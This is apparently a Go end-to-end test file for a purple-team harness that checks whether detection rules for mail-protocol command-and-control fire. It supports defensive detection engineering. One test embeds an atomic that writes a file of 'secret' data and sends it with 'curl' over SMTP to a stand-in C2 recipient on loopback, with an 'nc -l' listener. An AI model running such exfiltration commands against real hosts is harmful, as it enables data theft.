package harness_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/purpleharness/purpleharness/prereq"
)

// The end-to-end tests build cmd/validate once and run it the way a user
// or CI does, from the repository root with the default paths, asserting
// exit codes, output and the reports.

var validateBin string

func buildValidate(t *testing.T) string {
	t.Helper()
	if validateBin != "" {
		return validateBin
	}
	goBin := prereq.LookPath(t, "go")
	dir, err := os.MkdirTemp("", "purpleharness-e2e-")
	if err != nil {
		t.Fatal(err)
	}
	// World-readable, so TestE2ENotRootExits3 can run it as nobody.
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	bin := filepath.Join(dir, "validate")
	// Static (CGO_ENABLED=0), as a release build is. The container runs
	// put this binary into their image as it is (a dynamic one would bring
	// its loader and libraries along; fakemail/container tests that).
	build := exec.Command(goBin, "build", "-o", bin, "../cmd/validate")
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	out, err := build.CombinedOutput()
	if err != nil {
		os.RemoveAll(dir)
		t.Fatalf("go build ./cmd/validate: %v\n%s", err, out)
	}
	validateBin = bin
	return bin
}

func TestMain(m *testing.M) {
	code := m.Run()
	if validateBin != "" {
		os.RemoveAll(filepath.Dir(validateBin))
	}
	os.Exit(code)
}

type runResult struct {
	code           int
	stdout, stderr string
	pid            int // of the validate process
}

// e2eTimeout bounds one validate run: the whole suite takes seconds, so a
// run still going after this is hung, and the test fails instead of
// waiting for go test's own timeout.
const e2eTimeout = 90 * time.Second

func runValidate(t *testing.T, args ...string) runResult {
	t.Helper()
	bin := buildValidate(t) // first: a cold build must not eat the run's time
	ctx, cancel := context.WithTimeout(context.Background(), e2eTimeout)
	t.Cleanup(cancel)
	cmd := exec.CommandContext(ctx, bin, args...)
	cmd.Cancel = func() error { return cmd.Process.Signal(syscall.SIGQUIT) } // goroutine dump on stderr
	cmd.Dir = ".."                                                           // the repository root: defaults scenarios/, rules/, atomics/
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	code := 0
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("run validate %v: %v", args, err)
	}
	if ctx.Err() != nil {
		t.Fatalf("validate %v still running after %s; stderr:\n%s", args, e2eTimeout, stderr.String())
	}
	return runResult{code, stdout.String(), stderr.String(), cmd.Process.Pid}
}

func needRoot(t *testing.T) {
	t.Helper()
	prereq.NeedRoot(t, "the audit sensor and the canonical mail ports")
}

// skipIfEnv skips when validate exited 3 naming what the machine lacks
// ("[missing audit]", "[missing port]": another program holds a mail
// port). An exit 3 without such a cause is a failure of ours and fails.
func skipIfEnv(t *testing.T, r runResult) {
	t.Helper()
	if r.code == 3 {
		prereq.SkipOrFailText(t, "validate exit 3", r.stderr)
	}
}

func TestE2EShippedSuitePasses(t *testing.T) {
	needRoot(t)
	out := t.TempDir()
	r := runValidate(t, "run", "--servers", "in-process", "--out", out, "--scenario", "unlisted-client-three-protocols,thunderbird-allowlisted-other-case,single-poll,bash-dev-tcp-polling")
	skipIfEnv(t, r)
	if r.code != 0 {
		t.Fatalf("validate run: exit %d, want 0\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	if !strings.Contains(r.stderr, "mail servers: in-process") {
		t.Errorf("stderr does not say how the mail servers run:\n%s", r.stderr)
	}
	if !strings.Contains(r.stdout, "PASSED: 4 scenarios × 3 rules") {
		t.Errorf("stdout has no PASSED headline:\n%s", r.stdout)
	}
	for _, f := range []string{"report.json", "junit.xml", "summary.md", "navigator-layer.json", "telemetry.ndjson", "transcripts.ndjson"} {
		st, err := os.Stat(filepath.Join(out, f))
		if err != nil || st.Size() == 0 {
			t.Errorf("report %s missing or empty: %v", f, err)
		}
	}
	data, err := os.ReadFile(filepath.Join(out, "report.json"))
	if err != nil {
		t.Fatal(err)
	}
	var rep struct {
		RunID   string `json:"run_id"`
		Passed  bool   `json:"passed"`
		Results []struct {
			Scenario, Rule, Expect, Verdict string
			Explanation                     struct{ Summary string }
			Sequences                       []json.RawMessage
		} `json:"results"`
	}
	if err := json.Unmarshal(data, &rep); err != nil {
		t.Fatalf("report.json: %v", err)
	}
	if rep.RunID == "" || !rep.Passed || len(rep.Results) != 12 {
		t.Fatalf("report.json: run_id %q passed %v, %d results; want an id, true, 12", rep.RunID, rep.Passed, len(rep.Results))
	}
	for _, res := range rep.Results {
		if res.Explanation.Summary == "" {
			t.Errorf("%s × %s: empty explanation", res.Scenario, res.Rule)
		}
		if res.Scenario == "unlisted-client-three-protocols" && strings.HasSuffix(res.Rule, "(tuned)") && len(res.Sequences) != 1 {
			t.Errorf("unlisted-client × tuned: %d sequences in report.json, want 1", len(res.Sequences))
		}
	}
	// Telemetry is real and shaped like Elastic Defend.
	tel, _ := os.ReadFile(filepath.Join(out, "telemetry.ndjson"))
	if !bytes.Contains(tel, []byte(`"action":"connection_attempted"`)) {
		t.Errorf("telemetry.ndjson has no connection_attempted event")
	}
}

func TestE2EFailedExpectationExits1(t *testing.T) {
	needRoot(t)
	out := t.TempDir()
	r := runValidate(t, "run", "--suite", "harness/testdata/verdicts.yaml", "--out", out, "--scenario", "missed")
	skipIfEnv(t, r)
	if r.code != 1 {
		t.Fatalf("exit %d, want 1\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	if !strings.Contains(r.stdout, "missed × t1071_003_mail_c2_tuned: MISSED") || !strings.Contains(r.stdout, "fewer than runs=3") {
		t.Errorf("stdout lacks the MISSED explanation:\n%s", r.stdout)
	}
	junit, err := os.ReadFile(filepath.Join(out, "junit.xml"))
	if err != nil || !bytes.Contains(junit, []byte(`<failure message="MISSED: 1 event met every condition of stage 1, fewer than runs=3"`)) {
		t.Errorf("junit.xml lacks the failure: %v\n%s", err, junit)
	}
}

func TestE2EBadInputExits2(t *testing.T) {
	dir := t.TempDir()
	bad := filepath.Join(dir, "bad.yaml")
	if err := os.WriteFile(bad, []byte("scenarios:\n  - name: a\n    command: [true]\n    expect: {x: fire}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	unknownRule := filepath.Join(dir, "unknown.yaml")
	if err := os.WriteFile(unknownRule, []byte("scenarios:\n  - name: a\n    command: [true]\n    expect: {no_such_rule: fires}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// A rule whose query does not parse: the error is at the rule file's
	// line:col, inside the TOML multi-line string.
	tuned, err := os.ReadFile("../rules/t1071_003_mail_c2_tuned.toml")
	if err != nil {
		t.Fatal(err)
	}
	badRules := filepath.Join(dir, "rules")
	if err := os.Mkdir(badRules, 0o755); err != nil {
		t.Fatal(err)
	}
	badQuery := strings.Replace(string(tuned), "destination.port in (25,", "destination.port in (25,,", 1)
	badLine := strings.Count(badQuery[:strings.Index(badQuery, "(25,,")], "\n") + 1
	badCol := strings.Index(badQuery, "(25,,") - strings.LastIndex(badQuery[:strings.Index(badQuery, "(25,,")], "\n") + 4
	if err := os.WriteFile(filepath.Join(badRules, "bad.toml"), []byte(badQuery), 0o644); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		args []string
		want string
	}{
		{"eql", []string{"run", "--rules", badRules, "--suite", unknownRule}, fmt.Sprintf("%s:%d:%d: ", filepath.Join(badRules, "bad.toml"), badLine, badCol)},
		{"yaml", []string{"run", "--suite", bad}, bad + ":4:17: expect \"fire\": want \"fires\" or \"silent\""},
		{"unknown rule", []string{"run", "--suite", unknownRule}, unknownRule + ":4:14: unknown rule \"no_such_rule\""},
		{"flag", []string{"run", "--no-such-flag"}, "flag provided but not defined: -no-such-flag"},
		{"profile", []string{"run", "--profile", "splunk"}, "unknown profile \"splunk\""},
		{"scenario filter", []string{"run", "--scenario", "no-such-scenario"}, "no scenario named \"no-such-scenario\""},
		{"scenario filter with a space", []string{"run", "--scenario", "single-poll, no-such-scenario"}, "no scenario named \"no-such-scenario\""},
		{"live without a cluster", []string{"run", "--live", "--es-url", ""}, "--live needs --es-url"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := runValidate(t, tc.args...)
			if r.code != 2 || !strings.Contains(r.stderr, tc.want) {
				t.Errorf("validate %v: exit %d, stderr:\n%s\nwant exit 2 and %q", tc.args, r.code, r.stderr, tc.want)
			}
		})
	}
}

// TestE2EHostMailServerNoClash: a mail server on the host's 127.0.0.1:25
// (postfix on most Linux servers) does not disturb a run, whose servers
// listen in the run's own network namespace; and the scenario's clients
// reach those, never the host's.
func TestE2EHostMailServerNoClash(t *testing.T) {
	needRoot(t)
	ln, err := net.Listen("tcp", "127.0.0.1:25")
	if err != nil {
		prereq.Skip(t, prereq.Port, fmt.Sprintf("127.0.0.1:25 taken by another program: %v", err))
	}
	t.Cleanup(func() { ln.Close() })
	accepted := make(chan struct{}, 16)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			accepted <- struct{}{}
			c.Close()
		}
	}()
	out := t.TempDir()
	r := runValidate(t, "run", "--servers", "in-process", "--out", out, "--scenario", "single-poll,three-programs-once-each")
	skipIfEnv(t, r)
	if r.code != 0 {
		t.Fatalf("exit %d with a listener on the host's 127.0.0.1:25, want 0\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	// The scenario's bash connected to port 25 once: the run's own server
	// took it. (The host's listener is not asserted idle: other programs
	// on a shared host may connect to it.)
	tr, err := os.ReadFile(filepath.Join(out, "transcripts.ndjson"))
	if err != nil || !bytes.Contains(tr, []byte(`"port":25`)) {
		t.Errorf("the run's server has no session on port 25 (%v); the host's listener got %d connections meanwhile\n%s", err, len(accepted), tr)
	}
}

// TestE2EInterruptCleansUp sends SIGINT in the middle of a run and checks
// that nothing is left: no audit rules of that process, no listener on the
// mail ports, no scenario processes.
func TestE2EInterruptCleansUp(t *testing.T) {
	needRoot(t)
	auditctl := prereq.LookPath(t, "auditctl")
	cmd := exec.Command(buildValidate(t), "run", "--out", t.TempDir(), "--scenario", "pop3-nc-polling,imap-curl-c2-channel")
	cmd.Dir = ".."
	var stderr lockedBuffer
	cmd.Stderr = &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill() })
	// Wait until the first scenario runs, then interrupt.
	deadline := time.Now().Add(20 * time.Second)
	for !strings.Contains(stderr.String(), "sensor:") && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	time.Sleep(700 * time.Millisecond)
	pid := cmd.Process.Pid
	if err := cmd.Process.Signal(syscall.SIGINT); err != nil {
		t.Fatal(err)
	}
	waited := make(chan error, 1)
	go func() { waited <- cmd.Wait() }()
	var err error
	select {
	case err = <-waited:
	case <-time.After(e2eTimeout):
		_ = cmd.Process.Signal(syscall.SIGQUIT)
		<-waited
		t.Fatalf("validate did not end within %s of SIGINT; stderr:\n%s", e2eTimeout, stderr.String())
	}
	var ee *exec.ExitError
	if !errors.As(err, &ee) {
		t.Fatalf("validate ended with %v after SIGINT, want a non-zero exit\n%s", err, stderr.String())
	}
	if ee.ExitCode() == 3 {
		prereq.SkipOrFailText(t, "validate exit 3", stderr.String())
	}
	rulesOut, _ := exec.Command(auditctl, "-l").CombinedOutput()
	if mark := []byte("purpleharness:" + itoa(pid) + ":"); bytes.Contains(rulesOut, mark) {
		t.Errorf("audit rules of pid %d left behind:\n%s", pid, rulesOut)
	}
	if ln, err := net.Listen("tcp", "127.0.0.1:110"); err != nil {
		t.Errorf("127.0.0.1:110 still bound after the interrupted run: %v", err)
	} else {
		ln.Close()
	}
	// No mail-server container survives (auto runs them in one when Docker
	// answers).
	if docker, err := exec.LookPath("docker"); err == nil {
		ids, _ := exec.Command(docker, "ps", "-aq", "--filter", "label=org.purpleharness.role=fakemail").Output()
		if len(bytes.TrimSpace(ids)) > 0 {
			t.Errorf("mail-server containers left behind: %s", ids)
		}
	}
	// No process of the run survives (they would have validate's session or
	// be reparented; look for the scenario programs started from it).
	ps, _ := exec.Command("pgrep", "-f", "c2:atomic-red").Output()
	if len(bytes.TrimSpace(ps)) > 0 {
		t.Errorf("scenario processes still running: %s", ps)
	}
}

// lockedBuffer is a bytes.Buffer safe to read while the child writes to it.
type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

func itoa(n int) string { return strconv.Itoa(n) }

// TestE2EContainerServers runs a scenario against the mail servers in a
// container serving the run's network namespace and checks the transcript came back from it and
// nothing is left running.
func TestE2EContainerServers(t *testing.T) {
	needRoot(t)
	docker := prereq.LookPath(t, "docker")
	if out, err := exec.Command(docker, "info").CombinedOutput(); err != nil {
		prereq.Skip(t, prereq.Docker, fmt.Sprintf("docker info: %v: %s", err, out))
	}
	out := t.TempDir()
	r := runValidate(t, "run", "--servers", "container", "--out", out, "--scenario", "single-poll,unlisted-client-three-protocols")
	skipIfEnv(t, r)
	if r.code != 0 {
		t.Fatalf("exit %d, want 0\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	if !strings.Contains(r.stderr, "mail servers: container ") || !strings.Contains(r.stderr, "network namespace purpleharness-") {
		t.Errorf("stderr does not say the servers ran in a container:\n%s", r.stderr)
	}
	tr, err := os.ReadFile(filepath.Join(out, "transcripts.ndjson"))
	if err != nil || !bytes.Contains(tr, []byte(`"user":"c2"`)) {
		t.Errorf("transcripts.ndjson lacks the container's sessions: %v\n%s", err, tr)
	}
	ps, _ := exec.Command("docker", "ps", "-q", "--filter", "label=org.purpleharness.role=fakemail", "--filter", "label=org.purpleharness.owner-pid").Output()
	for _, id := range strings.Fields(string(ps)) {
		// Only a container of a validate that no longer runs is ours to blame.
		lbl, _ := exec.Command("docker", "inspect", "-f", `{{index .Config.Labels "org.purpleharness.owner-pid"}}`, id).Output()
		if pid, err := strconv.Atoi(strings.TrimSpace(string(lbl))); err == nil && syscall.Kill(pid, 0) != nil {
			t.Errorf("mail server container %s left behind by pid %d", id, pid)
		}
	}
}

// TestE2ENotRootExits3 runs validate as an unprivileged user: the
// environment error names what is missing and the exit code is 3.
func TestE2ENotRootExits3(t *testing.T) {
	needRoot(t) // to switch to another user
	setpriv := prereq.LookPath(t, "setpriv")
	// An --out nobody may write: one it may not is bad input (exit 2).
	out := readableCopy(t, "scenarios", "rules", "atomics")
	cmd := exec.Command(setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all", buildValidate(t), "run", "--out", filepath.Join(out, "out"), "--scenario", "single-poll", "--servers", "in-process")
	cmd.Dir = out
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	err := cmd.Run()
	var ee *exec.ExitError
	if !errors.As(err, &ee) || ee.ExitCode() != 3 || !strings.Contains(stderr.String(), "needs root") {
		t.Errorf("as nobody: %v, stderr:\n%s\nwant exit 3 saying the run needs root", err, stderr.String())
	}
}

// TestE2EInterruptRunsCleanup interrupts an atomic while its curl waits on
// an SMTP server that never greets, and checks that the atomic's
// cleanup_command still ran (its exfiltration file is gone), its processes
// were killed, and the partial report says the run was interrupted.
//
// The run's scenarios live in its own network namespace, where no listener
// of this test can be reached: the atomic starts the silent server itself
// (nc -l, which accepts and never writes) on the namespace's loopback.
func TestE2EInterruptRunsCleanup(t *testing.T) {
	needRoot(t)
	prereq.LookPath(t, "nc")
	prereq.LookPath(t, "curl")
	dir := t.TempDir()
	exfil := filepath.Join(dir, "exfil.eml")
	atomicsDir := filepath.Join(dir, "atomics")
	if err := os.MkdirAll(filepath.Join(atomicsDir, "T1071.003"), 0o755); err != nil {
		t.Fatal(err)
	}
	atomic := `attack_technique: T1071.003
display_name: 'Application Layer Protocol: Mail Protocols'
atomic_tests:
- name: SMTP exfiltration to a server that never greets
  auto_generated_guid: 3f6f0a52-8d1e-4f57-9b0e-2c4d1f0e7a11
  description: Writes a message file, then sends it with curl to an SMTP server that accepts and stays silent.
  supported_platforms:
  - linux
  input_arguments:
    port:
      description: TCP port of the silent server
      type: integer
      default: 2525
    exfil_file:
      description: Message file
      type: path
      default: /tmp/exfil.eml
  executor:
    name: sh
    elevation_required: false
    command: |
      printf 'Subject: host\n\nsecret\n' > #{exfil_file}
      nc -l 127.0.0.1 #{port} > /dev/null &
      sleep 0.3
      curl -s --max-time 60 --url smtp://127.0.0.1:#{port} --mail-from a@purpleharness.test --mail-rcpt c2@purpleharness.test -T #{exfil_file}
    cleanup_command: |
      rm -f #{exfil_file}
`
	if err := os.WriteFile(filepath.Join(atomicsDir, "T1071.003", "T1071.003.yaml"), []byte(atomic), 0o644); err != nil {
		t.Fatal(err)
	}
	suite := filepath.Join(dir, "suite.yaml")
	body := fmt.Sprintf(`scenarios:
  - name: stuck-exfiltration
    atomic: {technique: T1071.003, name: "SMTP exfiltration to a server that never greets"}
    inputs: {port: 2525, exfil_file: %q}
    timeout: 90s
    expect: {"*": silent}
`, exfil)
	if err := os.WriteFile(suite, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(buildValidate(t), "run", "--suite", suite, "--atomics", atomicsDir, "--out", filepath.Join(dir, "out"))
	cmd.Dir = ".."
	var stderr lockedBuffer
	cmd.Stderr = &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill() })
	// Wait until the atomic wrote its file and curl is waiting on the server.
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) {
		if _, err := os.Stat(exfil); err == nil {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	if _, err := os.Stat(exfil); err != nil {
		t.Fatalf("the atomic never wrote %s; stderr:\n%s", exfil, stderr.String())
	}
	time.Sleep(300 * time.Millisecond)
	if err := cmd.Process.Signal(syscall.SIGINT); err != nil {
		t.Fatal(err)
	}
	waited := make(chan error, 1)
	go func() { waited <- cmd.Wait() }()
	var err error
	select {
	case err = <-waited:
	case <-time.After(e2eTimeout):
		_ = cmd.Process.Signal(syscall.SIGQUIT)
		<-waited
		t.Fatalf("validate did not end within %s of SIGINT; stderr:\n%s", e2eTimeout, stderr.String())
	}
	var ee *exec.ExitError
	if !errors.As(err, &ee) || ee.ExitCode() != 130 {
		t.Fatalf("after SIGINT: %v, want exit 130; stderr:\n%s", err, stderr.String())
	}
	if _, err := os.Stat(exfil); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("cleanup_command did not run: %s still exists (%v)", exfil, err)
	}
	if ps, _ := exec.Command("pgrep", "-f", exfil).Output(); len(bytes.TrimSpace(ps)) > 0 {
		t.Errorf("atomic processes still running: %s", ps)
	}
	// The partial reports say the run did not pass.
	data, err := os.ReadFile(filepath.Join(dir, "out", "report.json"))
	if err != nil {
		t.Fatalf("no report.json after the interrupt: %v", err)
	}
	var rep struct {
		Passed     bool   `json:"passed"`
		Incomplete string `json:"incomplete"`
	}
	if err := json.Unmarshal(data, &rep); err != nil || rep.Passed || rep.Incomplete != "interrupted" {
		t.Errorf("report.json after the interrupt: passed=%v incomplete=%q (%v), want false and \"interrupted\"", rep.Passed, rep.Incomplete, err)
	}
}

// TestE2EUnverifiable: rules that need accepted connections and closes,
// judged on the audit sensor (which sees neither), are UNVERIFIABLE with
// the gap named — in stdout, report.json and junit.xml — never MISSED; the
// rule every sensor can serve is judged as usual, and the run passes.
func TestE2EUnverifiable(t *testing.T) {
	needRoot(t)
	out := t.TempDir()
	r := runValidate(t, "run", "--servers", "in-process", "--out", out,
		"--sensor", "audit", "--suite", "harness/testdata/lifecycle.yaml", "--rules", "harness/testdata/lifecycle-rules")
	skipIfEnv(t, r)
	if r.code != 0 {
		t.Fatalf("validate run: exit %d, want 0 (UNVERIFIABLE does not fail a run)\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	if !strings.Contains(r.stdout, "PASSED: 2 scenarios × 3 rules: 2 PASS, 4 UNVERIFIABLE\n") || strings.Contains(r.stdout, ": MISSED\n") {
		t.Errorf("stdout headline, want 2 PASS and 4 UNVERIFIABLE, no MISSED cell:\n%s", r.stdout)
	}
	for _, want := range []string{
		`connection-accepted-by-scenario × connection_accepted_by_nc: UNVERIFIABLE`,
		`the rule tests event.action == "connection_accepted", which the real Elastic Defend source sends but this run does not render; MISSED here`,
		`connection-closed-by-shell × attempt_then_disconnect: UNVERIFIABLE`,
		`event.action == "disconnect_received": the sensor of this run does not observe socket closes`,
		`UNVERIFIABLE: 4 cells rest on telemetry this run does not render`,
	} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("stdout lacks %q:\n%s", want, r.stdout)
		}
	}
	data, err := os.ReadFile(filepath.Join(out, "report.json"))
	if err != nil {
		t.Fatal(err)
	}
	var rep struct {
		Gaps    []struct{ Field, Value string } `json:"telemetry_gaps"`
		Results []struct {
			Scenario, Rule, Verdict string
			Gaps                    []string
		} `json:"results"`
	}
	if err := json.Unmarshal(data, &rep); err != nil {
		t.Fatalf("report.json: %v", err)
	}
	want := map[string]string{
		"connection-accepted-by-scenario/Connection accepted by nc":                     "UNVERIFIABLE",
		"connection-accepted-by-scenario/POP3 attempt then disconnect from one process": "UNVERIFIABLE",
		"connection-accepted-by-scenario/POP3 connection attempt":                       "PASS",
		"connection-closed-by-shell/Connection accepted by nc":                          "UNVERIFIABLE",
		"connection-closed-by-shell/POP3 attempt then disconnect from one process":      "UNVERIFIABLE",
		"connection-closed-by-shell/POP3 connection attempt":                            "PASS",
	}
	for _, res := range rep.Results {
		key := res.Scenario + "/" + res.Rule
		if res.Verdict != want[key] {
			t.Errorf("%s: verdict %s, want %s", key, res.Verdict, want[key])
		}
		if (res.Verdict == "UNVERIFIABLE") != (len(res.Gaps) > 0) {
			t.Errorf("%s: verdict %s with gaps %q", key, res.Verdict, res.Gaps)
		}
	}
	if len(rep.Results) != len(want) || len(rep.Gaps) == 0 {
		t.Errorf("report.json: %d results, %d telemetry gaps; want %d and some", len(rep.Results), len(rep.Gaps), len(want))
	}
	junit, err := os.ReadFile(filepath.Join(out, "junit.xml"))
	if err != nil || !bytes.Contains(junit, []byte(`<skipped message="UNVERIFIABLE: cannot verify: the rule tests event.action == &#34;disconnect_received&#34;`)) {
		t.Errorf("junit.xml lacks the UNVERIFIABLE skip: %v\n%s", err, junit)
	}
	// A replay keeps the recorded sensor's gaps: the same UNVERIFIABLE
	// cells, not MISSED ones.
	replayed := filepath.Join(t.TempDir(), "replayed")
	rr := runValidate(t, "run", "--replay", out, "--out", replayed,
		"--suite", "harness/testdata/lifecycle.yaml", "--rules", "harness/testdata/lifecycle-rules")
	if rr.code != 0 || !strings.Contains(rr.stdout, "PASSED (replayed from "+out+"): 2 scenarios × 3 rules: 2 PASS, 4 UNVERIFIABLE\n") {
		t.Errorf("replay: exit %d, want 0 and the live run's 2 PASS, 4 UNVERIFIABLE\nstdout:\n%s\nstderr:\n%s", rr.code, rr.stdout, rr.stderr)
	}
}
